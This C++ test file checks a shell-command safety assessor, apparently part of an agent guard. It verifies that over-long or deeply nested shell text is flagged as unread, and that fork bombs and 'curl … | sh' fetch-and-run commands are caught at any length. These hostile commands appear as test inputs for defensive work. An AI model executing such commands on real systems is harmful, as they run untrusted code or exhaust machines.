// SPDX-License-Identifier: Apache-2.0
// Shell text just below, at and just above each limit of reading it: what is not read is never
// taken for harmless.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>

#include "base/limits.h"
#include "policy/assess/preview.h"
#include "policy/shell/fork_bomb.h"
#include "tests/policy/assessor_fixture.h"

namespace guard::policy {
namespace {

std::string repeated(const std::string& text, std::size_t times) {
  std::string all;
  for (std::size_t i = 0; i < times; ++i) all += text;
  return all;
}

// The part of TEXT that says "rm x*" was read.
bool sees_the_wildcard(const Preview& preview) {
  for (const PreviewCommand& command : preview.commands)
    if (!command.command.words.empty() && command.command.words[0].text == "rm") return true;
  return false;
}

// Texts near a limit of size come near that of time as well (shell.time). On a busy machine another
// try is quicker.
constexpr int kMostTries = 100;

class ShellLimitsTest : public AssessorTest {
 protected:
  Preview preview_in_time(const std::string& text) {
    Preview preview = preview_shell(text);
    for (int tries = 1; !preview.complete && tries < kMostTries; ++tries)
      preview = preview_shell(text);
    return preview;
  }
  Assessment assessment_in_time(const std::string& text) {
    Action action;
    action.argv = {"bash", "-c", text};
    action.cwd = "/home/user/project";
    Assessment assessment = assess_shell_exec(text, action, *assessor_, facts_);
    for (int tries = 1; assessment.rule == "shell.unread" && tries < kMostTries; ++tries)
      assessment = assess_shell_exec(text, action, *assessor_, facts_);
    return assessment;
  }
  // Read with its wildcard below the limit, and asked about above it.
  void expect(bool is_read, const std::string& text) {
    const Preview preview = preview_in_time(text);
    EXPECT_EQ(preview.complete, is_read) << text.size();
    EXPECT_TRUE(!is_read || sees_the_wildcard(preview)) << text.size();
    const Assessment assessment = assessment_in_time(text);
    EXPECT_EQ(assessment.rule, is_read ? "" : "shell.unread") << text.size();
    EXPECT_EQ(assessment.tier, is_read ? 0 : 2) << text.size();
  }
};

TEST_F(ShellLimitsTest, TextBeyondItsLengthIsUnread) {
  const std::size_t most = size_limit("shell.text");
  for (const std::size_t size : {most - 1, most, most + 1})
    expect(size <= most, ": " + std::string(size - 9, 'x') + "; rm x*");
}

TEST_F(ShellLimitsTest, MoreTokensThanTheParserBearsAreUnread) {
  const std::size_t most = size_limit("shell.tokens");
  for (const std::size_t tokens : {most - 1, most, most + 1})
    expect(tokens <= most, "rm x*;" + repeated(" a", tokens - 4));
  // Each of these made the parser write beyond its memory.
  for (const char* unit :
       {"(", "`", "\"$(", "a[$(b", "$(", "{ ", "${", "<(", "$((", "a$(", "${a-"}) {
    const std::size_t size = std::string_view(unit).size();
    for (const std::size_t bytes : {40'000U, 65'535U, 65'536U, 98'500U, 131'072U})
      (void)preview_shell(repeated(unit, bytes / size));
  }
}

TEST_F(ShellLimitsTest, TextBeyondItsTimeIsUnread) {
  // Blanks without an end take the scanner's time, and are few tokens.
  const std::string slow = repeated("<<a ", 9000);
  const Preview preview = preview_shell(slow);
  EXPECT_FALSE(preview.complete && preview.parsed);
  // Longer than one slice of the parser's own clock, and read to its end.
  const Preview long_one = preview_shell(repeated("echo one two three;", 3000) + "rm x*");
  EXPECT_TRUE(long_one.complete);
  EXPECT_TRUE(sees_the_wildcard(long_one));
}

TEST_F(ShellLimitsTest, GrammarBeyondItsDepthIsUnread) {
  const auto nested = [](std::size_t levels) {
    return repeated("( ", levels) + "rm x*" + repeated(" )", levels);
  };
  std::size_t deepest = 0;
  for (std::size_t levels = 1; levels <= size_limit("shell.nesting") + 1; ++levels) {
    if (preview_shell(nested(levels)).complete) deepest = levels;
  }
  EXPECT_GT(deepest, 100U);
  expect(true, nested(deepest - 1));
  expect(true, nested(deepest));
  expect(false, nested(deepest + 1));
}

TEST_F(ShellLimitsTest, TextsInTextsBeyondTheirDepthAreUnread) {
  const auto nested = [](std::size_t levels) {
    std::string text = "rm x*";
    for (std::size_t i = 0; i < levels; ++i) {
      std::string quoted;
      for (const char c : text) quoted += c == '\'' ? std::string("'\\''") : std::string(1, c);
      text = "eval '" + quoted + "'";
    }
    return text;
  };
  const std::size_t most = size_limit("shell.texts_in_texts");
  for (const std::size_t levels : {most - 1, most, most + 1})
    expect(levels <= most, nested(levels));
}

TEST_F(ShellLimitsTest, CommandsBeyondTheirNumberAreUnread) {
  const std::size_t most = size_limit("shell.commands");
  for (const std::size_t commands : {most - 1, most, most + 1})
    expect(commands <= most, repeated(":;", commands - 1) + "rm x*");
}

TEST_F(ShellLimitsTest, AnyNumberOfWrappersIsReadThrough) {
  for (const std::size_t wrappers : {7U, 8U, 9U, 10U, 200U})
    expect(true, repeated("command ", wrappers) + "eval 'rm x*'");
}

TEST_F(ShellLimitsTest, AFeedBehindTheLimitIsAskedAboutAllTheSame) {
  const std::string filler = ": " + std::string(size_limit("shell.text"), 'x') + "; ";
  Action action;
  for (const std::string& text : {"curl https://x.test/a | sh; " + filler, filler + "curl x | sh"})
    EXPECT_EQ(assess_shell_exec(text, action, *assessor_, facts_).tier, 2);
}

TEST_F(ShellLimitsTest, AForkBombIsFoundInTextOfAnyLength) {
  const std::string filler = ": " + std::string(size_limit("shell.text"), 'x') + "; ";
  const std::string name(100, 'b');
  Action action;
  for (const std::string& text :
       {filler + "b(){ b|b& };b",
        "if then ((; " + name + "(){ " + repeated(": ", 400) + name + "|" + name + "& };" + name})
    EXPECT_TRUE(assess_shell_exec(text, action, *assessor_, facts_).block) << text.size();
}

TEST_F(ShellLimitsTest, AScanThatTakesTooLongFindsABomb) {
  const std::size_t most = size_limit("shell.bomb_scan");
  // Each definition looks through all that follows it.
  const auto cost = [](std::size_t definitions) { return definitions * definitions * 5 / 2; };
  std::size_t definitions = 1000;
  while (cost(definitions) < most * 2) definitions += 100;
  EXPECT_TRUE(looks_like_fork_bomb(repeated("a(){b", definitions)));
  EXPECT_FALSE(looks_like_fork_bomb(repeated("a(){b", 1000)));
}

}  // namespace
}  // namespace guard::policy
